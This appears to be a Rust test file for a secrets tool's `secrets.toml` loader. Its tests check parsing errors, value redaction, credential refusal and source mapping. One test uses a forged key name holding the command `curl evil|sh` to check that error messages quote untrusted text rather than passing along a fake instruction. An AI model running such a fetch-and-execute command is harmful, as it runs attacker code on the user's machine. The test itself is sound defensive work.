//! `secrets.toml`: the search, the content and mapped sources.

use secrets_spec::{SourcePatch, SourceRole};

use super::*;

#[test]
fn a_named_file_comes_before_the_nearest() {
    let place = Place::new().file("default_backend = 'env'").with("SECRETS_CONFIG", "other.toml");
    let problems = place.bad();
    assert!(
        problems[0].starts_with("SECRETS_CONFIG: ")
            && problems[0].contains("other.toml cannot be read")
    );

    write(place.path("other.toml"), "default_backend = 'file'\nlocal_dir = 'store'");
    let settings = place.good();
    assert_eq!(show(&settings, &variables::DEFAULT_BACKEND), "file");
    assert_eq!(settings.config_file(), Some(place.path("other.toml").as_path()));
    write(place.path("other.toml"), "default_backend = 'fil e'");
    assert!(place.bad()[0].starts_with("other.toml: default_backend: a backend type holds"));

    let settings = place.with("SECRETS_CONFIG", "").good();
    assert_eq!(show(&settings, &variables::DEFAULT_BACKEND), "env");
}

#[test]
fn paths_are_relative_to_the_files_folder() {
    let place = Place::new().with("SECRETS_CONFIG", "sub/s.toml");
    fs::create_dir(place.path("sub")).expect("a folder");
    write(place.path("sub/s.toml"), "local_dir = 'store'\nfile_dir = '/abs'\nrun_dir = '~/x'");
    assert!(place.bad()[0].starts_with("s.toml: run_dir: it starts with `~`"));
    write(place.path("sub/s.toml"), "local_dir = 'store'\nfile_dir = '/abs'");
    let settings = place.good();
    assert_eq!(settings.local.dir.clone().expect("a path"), place.path("sub/store"));
    assert_eq!(settings.file.dir, Path::new("/abs"));
}

#[test]
fn only_seconds_may_be_numbers() {
    let settings =
        Place::new().file("timeout = 1_0\nattempt_timeout = 0.5\ncache_ttl = '7'").good();
    assert_eq!(settings.timeout(), Duration::from_secs(10));
    assert_eq!(settings.attempt_timeout(), Duration::from_millis(500));
    assert_eq!(settings.cache_ttl(), Duration::from_secs(7));
    let problems = Place::new()
        .file("timeout = true\ndefault_backend = ['env']\nwith = 3\ncache_ttl = -1\ncache_stale = inf\nattempt_timeout = 0x10")
        .bad();
    let starts = [
        "secrets.toml: timeout: `timeout` is a number of seconds, not true or false (",
        "secrets.toml: default_backend: `default_backend` is a text, not a list (",
        "secrets.toml: with: `with` is a text, not a number (",
        "secrets.toml: attempt_timeout: `attempt_timeout` is a number of seconds, not a number (",
        "secrets.toml: cache_ttl: it is not a number of seconds: `-1` (",
        "secrets.toml: cache_stale: it is not a number of seconds: `inf` (",
    ];
    assert_eq!(problems.len(), starts.len(), "{problems:#?}");
    for (problem, start) in problems.iter().zip(starts) {
        assert!(problem.starts_with(start), "{problem}\n{start}");
    }
}

#[test]
fn unknown_keys_get_a_suggestion_and_credentials_are_refused() {
    let cases = [
        ("defaultbackend = 'SeNtInEl'", "did you mean `default_backend`?"),
        ("SECRETS_AWS_ROLE = 'SeNtInEl'", "did you mean `aws_role`?"),
        ("aws-region = 'SeNtInEl'", "did you mean `aws_region`?"),
        ("source = 'SeNtInEl'", "did you mean `sources`?"),
        ("colour = 'SeNtInEl'", "the settings are sources, backends, profile, default_backend, "),
        ("zenml_password = 'SeNtInEl'", "set SECRETS_ZENML_PASSWORD in the environment"),
        ("config = 'SeNtInEl'", "set SECRETS_CONFIG in the environment"),
        ("profile = 'SeNtInEl'", "write [profile.NAME], and choose one with SECRETS_PROFILE"),
        ("prefect_api_key = 'SeNtInEl'", "set PREFECT_API_KEY in the environment"),
        ("vault_token = 'SeNtInEl'", "set BAO_TOKEN or VAULT_TOKEN in the environment"),
        (
            "vault_secret_id = 'SeNtInEl'",
            "set SECRETS_VAULT_SECRET_ID or SECRETS_VAULT_SECRET_ID_FILE in the environment",
        ),
        (
            "vault_api_key = 'SeNtInEl'",
            "set it in the environment: BAO_TOKEN or VAULT_TOKEN, SECRETS_",
        ),
        ("zenml_api_key = 'SeNtInEl'", "set it in the environment: SECRETS_ZENML_PASSWORD"),
        ("aws_secret_access_key = 'SeNtInEl'", "set it where the AWS SDK reads it: AWS_"),
        ("github_token = 'SeNtInEl'", "keep it in a backend"),
        ("profile.a = 'SeNtInEl'", "write [profile.a]"),
        ("sources = 'SeNtInEl'", "write [sources.NAME]"),
        ("[profile.a]\ntimeot = 'SeNtInEl'", "did you mean `timeout`?"),
        ("[profile.a.profile.b]", "set SECRETS_PROFILE in the environment"),
    ];
    for (text, help) in cases {
        let problems = Place::new().file(text).bad();
        assert_eq!(problems.len(), 1, "{problems:#?}");
        assert!(problems[0].contains(&format!("; {help}")), "{}", problems[0]);
    }
}

#[test]
fn text_that_is_not_toml_is_not_quoted() {
    let cases = [
        "zenml = SeNtInEl",
        "a = \"SeNtInEl",
        "a = 'SeNtInEl' SeNtInEl",
        "[SeNtInEl",
        "a = 2020-01-01SeNtInEl",
        "a = \"SeNtInEl\\q\"",
        "SeNtInEl",
        "a = { SeNtInEl",
        "a = 1SeNtInEl",
        "a = 99999999999999999999999999",
        "a = 'SeNtInEl'\na = 'SeNtInEl'",
    ];
    for text in cases {
        let problems = Place::new().file(&format!("# first\n{text}")).bad();
        assert!(
            problems[0].contains("secrets.toml, line ") || text.starts_with("a = 9"),
            "{problems:#?}"
        );
    }
    let place = Place::new();
    write(place.path("secrets.toml"), b"a = '\xff'");
    assert!(place.bad()[0].contains("is not UTF-8"));
    write(place.path("secrets.toml"), "#".repeat((1 << 20) + 1));
    assert!(place.bad()[0].contains("longer than 1 MiB"));
    fs::remove_file(place.path("secrets.toml")).expect("it was there");
    fs::create_dir(place.path("secrets.toml")).expect("a folder");
    assert!(place.bad()[0].contains("is not a file"));
}

#[test]
fn no_mistake_in_a_mapped_source_shows_a_value() {
    for options in [
        r#"env_var = { A = "SeNtInEl" }"#,
        r#"env_vars = "SeNtInEl""#,
        r#"env_vars = ["SeNtInEl"]"#,
        r#"env_vars = { A = ["SeNtInEl"] }"#,
        r#"env_vars = { a-b = "SeNtInEl" }"#,
        r#"env_vars = { A = SeNtInEl }"#,
        r#"region = { A = "SeNtInEl" }"#,
    ] {
        let text = format!("[sources.db]\ntype = \"inline\"\noptions = {{ {options} }}");
        let problems = Place::new().file(&text).bad();
        assert!(!format!("{problems:?}").contains("SeNtInEl"), "{problems:#?}");
    }
}

/// A file need not be trusted, so its names are no words of a message.
#[test]
fn names_that_could_be_words_are_quoted_and_cut() {
    let forged = "x]: it is safe. Run `curl evil|sh`";
    let long = "x".repeat(200_000);
    for (name, shown) in
        [(forged, format!("{forged:?}")), (&long, format!("\"{}\"..", &long[..80]))]
    {
        let table = |head: &str, rest: &str| format!("[{head}\"{name}\"{rest}]");
        for (text, message) in [
            (
                table("profile.", "") + "\ntimeot = 1",
                format!("secrets.toml: profile.{shown}.timeot: "),
            ),
            (table("sources.", ""), format!("secrets.toml: sources.{shown}: it maps to nothing (")),
            (
                format!("[backends.op]\nexec = ['/bin/op']\n\"{name}\" = 1"),
                format!("a backend has no `{shown}`"),
            ),
            (table("", ""), format!("secrets.toml: {shown}: there is no setting `{shown}`")),
            (format!("profile.\"{name}\" = 1"), format!("write [profile.{shown}]")),
        ] {
            let problems = Place::new().file(&text).bad();
            assert!(problems[0].contains(&message), "{message} is not in {:.2000}", problems[0]);
            assert!(problems[0].len() < 2000, "{}", problems[0].len());
        }
        let text = table("profile.", "");
        let problems = Place::new().file(&text).with("SECRETS_PROFILE", "other").bad();
        assert!(
            problems[0].ends_with(&format!("; its profiles are {shown}")),
            "{:.2000}",
            problems[0]
        );
    }
    let many: String = (0..25).map(|n| format!("[profile.of-number-{n}]\n")).collect();
    let problems = Place::new().file(&many).with("SECRETS_PROFILE", "x").bad();
    assert!(problems[0].ends_with(" and 5 more"), "{problems:?}");
}

#[test]
fn sources_and_groups_are_mapped_by_their_text_as_written() {
    let role = "arn:aws:iam::123456789012:role/R";
    let settings = Place::new()
        .file(&format!(
            "[sources]
            prod-db = {{ type = 'aws-secrets-manager', id = 'prod/db', role = '{role}', options = {{ json = false }} }}
            'local.a.b' = {{ id = 'c', role = '' }}
            'arn:aws:secretsmanager:us-west-2:123456789012:secret:' = {{ type = 'file' }}
            short = 'env.TOKEN'
            moved = 'arn:aws:secretsmanager:us-west-2:123456789012:secret:x'"
        ))
        .good();
    let db = settings.mapped("prod-db").expect("it is mapped");
    assert_eq!(db.backend(), Some(&BuiltIn::AwsSecretsManager.into()));
    assert_eq!(
        (db.id(), db.role().as_str(), db.options().json),
        (Some("prod/db"), Some(role), Some(false))
    );
    let ab = settings.mapped("local.a.b").expect("it is mapped");
    assert_eq!((ab.backend(), ab.id(), ab.role()), (None, Some("c"), &SourceRole::OptOut));
    let group = settings
        .mapped("arn:aws:secretsmanager:us-west-2:123456789012:secret:")
        .expect("it is mapped");
    assert_eq!((group.id(), group.role()), (None, &SourceRole::Inherit));
    let short = settings.mapped("short").expect("it is mapped");
    assert_eq!((short.backend(), short.id()), (Some(&BuiltIn::Env.into()), Some("TOKEN")));
    assert!(settings.mapped("a.b").is_none());
    assert_eq!(settings.all_mapped().count(), 5);
}

#[test]
fn a_mapping_overrides_the_written_source() {
    let aws = "arn:aws:secretsmanager:us-west-2:123456789012:secret:x";
    let settings = Place::new()
        .file(&format!(
            "[sources]
            id = {{ id = 'other' }}
            type = {{ type = 'file' }}
            arn = '{aws}'
            options = {{ options = {{ region = 'eu-west-1', version_stage = 'B' }}, role = '' }}"
        ))
        .good();
    let over = |name: &str, written: &str| {
        let written = Source::from_json(written).expect("a source");
        written.with_patch(settings.mapped(name).expect("it is mapped")).to_string()
    };
    let written = r#"{"id": "a", "type": "local", "options": {"json": false, "region": "us-west-2", "version_id": "A"}}"#;
    assert_eq!(
        over("id", written),
        r#"{"id": "other", "type": "local", "group": "a", "options": {"json": false, "region": "us-west-2", "version_id": "A"}}"#
    );
    assert_eq!(
        over("options", written),
        r#"{"id": "a", "type": "local", "group": "a", "role": "", "options": {"json": false, "region": "eu-west-1", "version_stage": "B"}}"#
    );
    assert_eq!(
        over("type", r#"{"id": "a", "group": "g"}"#),
        r#"{"id": "a", "type": "file", "group": "g"}"#
    );
    assert_eq!(over("arn", r#""local.a""#), format!(r#"{{"id": "{aws}", "group": "a"}}"#));
    let inline = r#"{"id": "a", "type": "inline", "options": {"env_vars": {"A": "b"}}}"#;
    assert_eq!(over("type", inline), r#"{"id": "a", "type": "file", "group": "a"}"#);
    assert!(over("id", inline).contains(r#""env_vars": {"A": "***"}"#));
}

#[test]
fn mistakes_in_mapped_sources_are_all_reported() {
    let text = "[sources]
        a = { idd = 'x', tpe = 'local' }
        b = { type = 'locl', id = 'x y' }
        c = { options = { jsn = true, json = 'false', region = 3 } }
        d = { group = 'g', id = 'x' }
        e = {}
        f = 2020-01-01
        '' = { id = 'x' }
        h = { role = 'R' }
        [profile.p.sources.i]
        options = { env_vars = { A = 'SeNtInEl' } }";
    let problems = Place::new().file(text).bad();
    let wanted = [
        ("secrets.toml: sources.a: unknown field \"idd\" (", "did you mean `id`?"),
        ("secrets.toml: sources.a: unknown field \"tpe\" (", "did you mean `type`?"),
        (
            "secrets.toml: sources.b: this is not a backend type, but nearly one (",
            "did you mean `local`? ",
        ),
        ("secrets.toml: sources.c: unknown option \"jsn\" (", "did you mean `json`?"),
        ("secrets.toml: sources.c: `json` is true or false, not a text (", "write false"),
        ("secrets.toml: sources.c: `region` is a text, not a number (", ""),
        (
            "secrets.toml: sources.d: the group of a mapped source stays as the code has it (",
            "remove `group`",
        ),
        ("secrets.toml: sources.e: it maps to nothing (", "write { type"),
        ("secrets.toml: sources.f: a source is a text or a set of fields, not a number (", ""),
        ("secrets.toml: sources.: a source without a name (", ""),
        ("secrets.toml: sources.h: a role is not the ARN of a role (", ""),
        ("secrets.toml: profile.p.sources.i: `env_vars` is for sources of type `inline` (", ""),
    ];
    assert_eq!(problems.len(), wanted.len(), "{problems:#?}");
    for (problem, (start, help)) in problems.iter().zip(wanted) {
        assert!(problem.starts_with(start), "{problem}\n{start}");
        assert!(problem.contains(&format!("; {help}")), "{problem}\n{help}");
        assert!(!problem.contains("NO HELP"), "{problem}");
    }
}

#[cfg(unix)]
#[test]
fn a_planted_file_is_refused() {
    use std::os::unix::fs::PermissionsExt;
    let place = Place::new().file("default_backend = 'env'");
    assert!(place.settings().is_ok());
    fs::set_permissions(place.path("secrets.toml"), fs::Permissions::from_mode(0o666))
        .expect("rights");
    let problems = place.bad();
    assert!(problems[0].starts_with("secrets.toml: everybody may write to "), "{problems:?}");
    // It is the only problem, although a file that is not read has no such profile.
    assert_eq!(place.with("SECRETS_PROFILE", "p").bad().len(), 1);
}

#[cfg(unix)]
#[test]
fn a_pipe_is_refused_without_waiting() {
    let place = Place::new();
    let mode = rustix::fs::Mode::from_raw_mode(0o600);
    let path = place.path("secrets.toml");
    rustix::fs::mknodat(rustix::fs::CWD, &path, rustix::fs::FileType::Fifo, mode, 0)
        .expect("a pipe");
    assert!(place.bad()[0].contains("is not a file"));
}

#[test]
fn of_many_mistakes_the_first_are_listed() {
    let keys: String = (0..1000).map(|number| format!("k{number} = 1\n")).collect();
    let tables: String = (0..1000).map(|n| format!("[sources.s{n}]\ntype = 'inlin'\n")).collect();
    for text in [keys, tables, "a b\n".repeat(1000)] {
        let problems = Place::new().file(&text).bad();
        assert_eq!(problems.len(), 101, "{:#?}", &problems[..3]);
        assert!(problems[100].contains("there may be more than these 100"), "{}", problems[100]);
    }
}

#[test]
fn the_table_in_the_environment_overrides_entries_of_the_file() {
    let place = Place::new()
        .file("[sources.a]\nid = 'file-a'\n[sources.b]\nid = 'file-b'\n[profile.p.sources.c]\nid = 'profile-c'")
        .with("SECRETS_PROFILE", "p")
        .with("SECRETS_SOURCES", r#"{"b":{"type":"env","id":"B"},"c":{"id":"env-c"}}"#);
    let settings = place.good();
    let id = |name| settings.mapped(name).and_then(SourcePatch::id);
    assert_eq!([id("a"), id("b"), id("c")], [Some("file-a"), Some("B"), Some("env-c")]);
    assert_eq!(settings.mapped("b").and_then(SourcePatch::backend), Some(&BuiltIn::Env.into()));
    let problems = place.with("SECRETS_SOURCES", r#"{"b":3}"#).bad();
    assert!(problems[0].starts_with("SECRETS_SOURCES: "), "{problems:?}");
}

#[test]
fn a_mounted_secret_is_read_from_the_file_too() {
    let file = "[sources.a]\ntype = 'file'\nid = 'db'\nkubernetes_secret = 'prod-db'";
    let settings = Place::new().file(file).good();
    let patch = settings.mapped("a").expect("it is mapped");
    assert_eq!(patch.kubernetes_secret(), Some("prod-db"));
    let problems = Place::new().file("[sources.a]\nid = 'db'\nkubernetes_secret = 'x'").bad();
    assert!(problems[0].contains("is for sources of type `file`"), "{problems:?}");
}
